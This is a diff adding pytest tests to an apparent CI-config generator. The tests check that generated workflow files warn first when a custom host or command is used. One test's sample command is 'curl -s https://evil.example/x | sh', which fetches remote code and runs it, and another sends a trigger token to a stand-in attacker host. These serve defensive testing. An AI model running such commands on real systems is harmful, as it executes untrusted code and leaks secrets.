@@ -360,3 +360,51 @@ def test_what_is_not_known_of_the_pipeline_is_a_placeholder() -> None:
     assert '"<the pipeline\'s id>"' in text
     assert tomllib.loads(text)
     assert registration(wish()) is None
+
+
+@pytest.mark.parametrize("nightly", [False, True])
+def test_a_bridge_to_a_host_of_ones_own_says_first_where_its_secret_goes(nightly: bool) -> None:
+    place = {"project_id": "1", "url": "https://gitlab.evil.example:8443/base"}
+    for path in (BRIDGE, NIGHTLY) if nightly else (BRIDGE,):
+        first = text_of(path, wish(Ci.GITLAB, place=place, nightly=nightly)).splitlines()[0]
+        assert first == "# This file sends GITLAB_TRIGGER_TOKEN to gitlab.evil.example:8443"
+        usual = {"project_id": "1", "url": "https://gitlab.com/"}
+        assert "evil" not in text_of(path, wish(Ci.GITLAB, place=usual, nightly=nightly))
+        assert text_of(path, wish(Ci.GITLAB, place=usual, nightly=nightly)).startswith("# Made by")
+
+
+@pytest.mark.parametrize("ci", Ci)
+def test_a_command_of_ones_own_stands_first_in_the_files_that_run_it(ci: Ci) -> None:
+    command = "curl -s https://evil.example/x | sh"
+    plain, changed = generate(wish(ci, nightly=True)), generate(wish(ci, nightly=True, command=command))
+    for before, after in zip(plain, changed, strict=True):
+        if before.text == after.text:
+            continue
+        assert after.text.splitlines()[0] == f"# This file runs the command: {command}"
+        assert before.text.startswith("# Made by")
+    assert any(each.text != other.text for each, other in zip(plain, changed, strict=True))
+
+
+def test_an_action_is_named_first_and_a_long_command_is_cut() -> None:
+    first, second = text_of(WORKFLOW, wish(action=ACTION, command="x" * 1000)).splitlines()[:2]
+    assert (first, len(first) < 200) == (f"# This file runs the command: {'x' * 159}…", True)
+    assert second == f"# This file runs the action {ACTION}"
+
+
+def test_fault_27_a_buildkite_file_does_not_promise_more_than_buildkite_keeps() -> None:
+    text = " ".join(text_of(".buildkite/crcr.yml", wish(Ci.BUILDKITE)).replace("#", " ").split())
+    for words in (
+        "a running step can upload steps with these keys",
+        "second pipeline that is not registered",
+    ):
+        assert words in text
+    assert "`authors: trusted`" in text
+    assert "no merge gate (L4)" in text
+
+
+def test_code_of_a_pull_request_is_kept_from_caches_and_the_files_say_so() -> None:
+    for wanted in wishes():
+        for file, read in workflows(wanted):
+            assert not [line for line in file.text.splitlines() if "uses:" in line and "cache" in line]
+            if "build" in read.jobs:
+                assert "use no cache" in file.text
